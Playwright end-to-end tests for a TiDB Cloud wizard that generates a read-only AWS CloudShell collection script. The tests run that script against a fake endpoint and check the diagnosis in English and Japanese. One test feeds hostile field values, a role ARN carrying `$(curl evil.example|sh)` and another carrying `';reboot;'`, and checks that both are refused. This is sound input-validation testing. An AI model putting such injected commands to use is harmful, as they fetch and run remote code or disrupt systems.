import { expect, test } from "@playwright/test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { ensureAwsCli } from "../support/aws-cli";
import { runCollectionScript } from "../support/collection-script";
import { expectNoSeriousA11yViolations, watchConsole } from "./support";

// The third way in: the collection script for AWS CloudShell, shown, copied and downloaded from the production
// server, run with the AWS CLI against the fake AWS endpoint that playwright.config.ts starts (the key id selects the
// account), and its bundle given back to the wizard. No credential is typed into the page.
const FAKE_AWS_URL = `http://127.0.0.1:${Number(process.env.E2E_FAKE_AWS_PORT ?? 4599)}`;
const ROLE_ARN = "arn:aws:iam::111122223333:role/tidb-import";
const EXTERNAL_ID = "696e6672612d617069a79c22fa5740944bf8bb32e4a0c4e3fe";
const BUCKET_URI = "s3://tidb-cloud-source-data/mydata/";
const BUNDLE = readFileSync(join(process.cwd(), "tests", "fixtures", "bundles", "role-ok.json"), "utf8");

test.describe("wizard, CloudShell script", () => {
  test.use({ permissions: ["clipboard-read", "clipboard-write"] });

  test("shows the script, copies it, downloads it; run in CloudShell, its bundle comes back a clean pass", async ({
    page,
  }) => {
    test.setTimeout(600_000);
    const console = watchConsole(page);
    await page.goto("/en/wizard");
    await page.getByLabel("Bucket URI").fill(BUCKET_URI);
    await page.getByLabel("Role ARN", { exact: true }).fill(ROLE_ARN);
    await page.getByLabel("TiDB Cloud External ID").fill(EXTERNAL_ID);
    await page.getByLabel("TiDB Cloud account ID").fill("380838443567");
    await page.getByLabel("CloudShell script").check();
    await expect(page.getByLabel("Secret access key")).toHaveCount(0);
    await page.getByRole("button", { name: "Show the script for these values" }).click();
    const block = page.getByLabel("Collection script");
    await expect(block).toContainText("#!/usr/bin/env bash");
    await expect(block).toContainText(`ROLE_ARN='${ROLE_ARN}'`);
    const shown = await block.innerText();

    await page.getByRole("button", { name: "Copy script" }).click();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied.trim()).toBe(shown.trim());

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "Download s3-access-doctor-collect.sh" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("s3-access-doctor-collect.sh");
    const script = readFileSync((await download.path())!, "utf8");
    expect(script).toBe(copied);

    // The user runs it in CloudShell: here bash and the AWS CLI against the fake endpoint, with the account's key.
    const run = await runCollectionScript(script, {
      awsCli: ensureAwsCli(),
      endpoint: FAKE_AWS_URL,
      accessKeyId: "AKIAFAKEROLEOK000001",
      secretAccessKey: "cloudshell-session-secret-not-for-the-page",
    });
    try {
      expect(run.code, run.stderr).toBe(0);
      await page.getByLabel("Or choose the file:").setInputFiles(join(run.dir, "s3-access-doctor-bundle.json"));
      await expect(page.getByLabel("File the script wrote (s3-access-doctor-bundle.json)")).toHaveValue(/"format"/);
    } finally {
      run.cleanup();
    }
    await page.getByRole("button", { name: "Run the diagnosis" }).click();
    await expect(page.getByRole("heading", { level: 1, name: "Diagnosis" })).toBeVisible();
    await expect(page.locator('[data-status="fail"]')).toHaveCount(0);
    const nav = page.getByRole("navigation", { name: "Diagnosis steps" });
    for (const [step, ids] of [
      [/assume the role/, ["role.trust.external-id"]],
      [/Bucket policy/, ["bucket.requester-pays"]],
      [/Encryption and KMS keys/, ["objects.present", "objects.sse-c", "objects.encryption-keys", "kms.key-policy"]],
    ] as const) {
      await nav.getByRole("link", { name: step }).click();
      for (const id of ids) await expect(page.locator(`[data-finding="${id}"]`)).toHaveAttribute("data-status", "pass");
    }
    expect(await page.content()).not.toContain("cloudshell-session-secret-not-for-the-page");
    console.assertClean();
  });

  test("in Japanese: the script speaks Japanese, and the pasted bundle is analysed", async ({ page }) => {
    await page.goto("/ja/wizard");
    await page.getByLabel("バケット URI").fill(BUCKET_URI);
    await page.getByLabel("ロール ARN", { exact: true }).fill(ROLE_ARN);
    await page.getByLabel("TiDB Cloudの外部ID").fill(EXTERNAL_ID);
    await page.getByLabel("CloudShell スクリプト").check();
    await page.getByRole("button", { name: "この入力内容でスクリプトを表示" }).click();
    await expect(page.getByLabel("収集スクリプト")).toContainText("読み取り専用の収集スクリプト");
    await expect(page.getByRole("link", { name: "s3-access-doctor-collect.sh をダウンロード" })).toBeVisible();
    await expectNoSeriousA11yViolations(page);
    await page.getByLabel("スクリプトが書き出したファイル（s3-access-doctor-bundle.json）").fill(BUNDLE);
    await page.getByRole("button", { name: "診断を実行" }).click();
    await expect(page.getByRole("heading", { level: 1, name: "診断結果" })).toBeVisible();
    await expect(page.locator('[data-status="fail"]')).toHaveCount(0);
    await page
      .getByRole("navigation", { name: "診断ステップ" })
      .getByRole("link", { name: /デフォルトの暗号化/ })
      .click();
    await expect(page.locator('[data-finding="objects.encryption-keys"]')).toHaveAttribute("data-status", "pass");
  });

  test("a hostile value is refused at its field, and a crafted link gets no script", async ({ page, request }) => {
    await page.goto("/en/wizard");
    await page.getByLabel("Bucket URI").fill(BUCKET_URI);
    await page.getByLabel("Role ARN", { exact: true }).fill(`${ROLE_ARN}$(curl evil.example|sh)`);
    await page.getByLabel("CloudShell script").check();
    await page.getByRole("button", { name: "Show the script for these values" }).click();
    await expect(page.getByRole("alert").filter({ hasText: "The role ARN must look like" })).toBeVisible();
    await expect(page.getByLabel("Collection script")).toHaveCount(0);

    const crafted = await request.get(
      `/en/wizard/collect-script?mode=role&bucketUri=${encodeURIComponent(BUCKET_URI)}&roleArn=${encodeURIComponent(`${ROLE_ARN}';reboot;'`)}`,
    );
    expect(crafted.status()).toBe(400);
    expect((await crafted.json()).error.field).toBe("roleArn");

    // a folder may hold any character: it goes in single-quoted, as data
    const quoted = await request.get(
      `/en/wizard/collect-script?mode=role&bucketUri=${encodeURIComponent("s3://tidb-cloud-source-data/it's $(x)/")}&roleArn=${encodeURIComponent(ROLE_ARN)}`,
    );
    expect(quoted.status()).toBe(200);
    expect(quoted.headers()["content-type"]).toBe("text/x-shellscript; charset=utf-8");
    expect(quoted.headers()["content-disposition"]).toContain("attachment");
    expect(await quoted.text()).toContain(`FOLDER='it'\\''s $(x)/'`);
  });
});
